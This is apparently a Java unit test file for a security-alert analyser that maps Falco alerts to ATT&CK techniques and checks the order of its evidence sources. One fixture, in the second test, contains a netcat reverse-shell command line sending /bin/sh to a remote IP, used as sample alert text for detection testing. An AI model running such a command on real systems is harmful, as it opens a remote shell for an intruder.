package io.winnow.analyst.builtin;

import io.winnow.Alerts;
import io.winnow.alert.Finding;
import io.winnow.attack.AttackCatalog;
import io.winnow.mask.RegexMasker;
import org.junit.jupiter.api.Test;

import java.util.ArrayList;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** The order and provenance of technique claims: alert-tag, behavior, rule, and similarity only as a last resort. */
class BuiltinAnalystSignalsTest {
    private static final AttackCatalog CATALOG = AttackCatalog.bundled();
    private static final List<String> ORDER = List.of("alert-tag", "behavior", "rule", "similarity");
    private final RegexMasker masker = new RegexMasker();

    /** A ranker that answers with fixed techniques and remembers what it was asked. */
    private static final class RecordingRanker implements SimilarityRanker {
        final List<String> asked = new ArrayList<>();
        final List<Ranked> answer;

        RecordingRanker(List<Ranked> answer) {
            this.answer = answer;
        }

        @Override
        public List<Ranked> rank(String text, int limit) {
            asked.add(text);
            return answer.stream().limit(limit).toList();
        }

        @Override
        public String name() {
            return "recording";
        }
    }

    @Test
    void claimsTagsFirstThenBehavioursThenTheRuleName() {
        // given: a tagged Falco alert whose output and rule name both describe a shadow read
        RecordingRanker ranker = new RecordingRanker(List.of(new SimilarityRanker.Ranked("T1046", 0.9)));
        BuiltinAnalyst analyst = new BuiltinAnalyst(CATALOG, ranker);

        // when
        Finding f = analyst.analyse(masker.mask(Alerts.shadowRead("A1")).alert());

        // then
        List<String> sources = f.techniques().stream().map(Finding.Claim::source).toList();
        assertThat(sources.getFirst()).isEqualTo("alert-tag");
        assertThat(sources).contains("behavior").doesNotContain("similarity");
        assertThat(sources.stream().map(ORDER::indexOf).toList()).isSorted();
        assertThat(ranker.asked).isEmpty();
    }

    @Test
    void claimsTheRuleNameAfterBehaviours() {
        // given: no tags; the command line and the rule name both say something
        var alert = Alerts.falco("A2", "Netcat Remote Code Execution in Container",
                "Netcat runs inside container (command=nc -e /bin/sh 203.0.113.9 9001)", List.of(), List.of());

        // when
        Finding f = new BuiltinAnalyst(CATALOG).analyse(masker.mask(alert).alert());

        // then
        List<String> sources = f.techniques().stream().map(Finding.Claim::source).toList();
        assertThat(sources.getFirst()).isEqualTo("behavior");
        assertThat(sources).contains("rule");
        assertThat(sources.stream().map(ORDER::indexOf).toList()).isSorted();
        assertThat(f.techniques().getFirst().id()).isEqualTo("T1059.004");
    }

    @Test
    void asksForSimilarityOnlyWhenNothingElseExplainsTheAlert() {
        // given
        RecordingRanker ranker = new RecordingRanker(List.of(new SimilarityRanker.Ranked("T1499", 0.6),
                new SimilarityRanker.Ranked("T9999", 0.5), new SimilarityRanker.Ranked("T1498", 0.4)));
        BuiltinAnalyst analyst = new BuiltinAnalyst(CATALOG, ranker);

        // when
        Finding f = analyst.analyse(masker.mask(Alerts.raw("A3", "queue depth of the frobnicator exceeded 9000")).alert());

        // then
        assertThat(ranker.asked).hasSize(1);
        assertThat(ranker.asked.getFirst()).contains("frobnicator");
        assertThat(f.techniques()).extracting(Finding.Claim::id).containsExactly("T1499", "T1498");
        assertThat(f.techniques()).allSatisfy(c -> assertThat(c.source()).isEqualTo("similarity"));
        assertThat(f.confidence()).isLessThan(0.7);
        assertThat(f.verdict()).isEqualTo("NEEDS_INVESTIGATION");
        assertThat(f.reasoning()).contains("only text similarity").contains("recording");
    }

    @Test
    void worksWithoutASimilarityRanker() {
        Finding f = new BuiltinAnalyst(CATALOG, SimilarityRanker.none())
                .analyse(masker.mask(Alerts.raw("A4", "queue depth of the frobnicator exceeded 9000")).alert());

        assertThat(f.techniques()).isEmpty();
        assertThat(f.verdict()).isEqualTo("NEEDS_INVESTIGATION");
    }
}
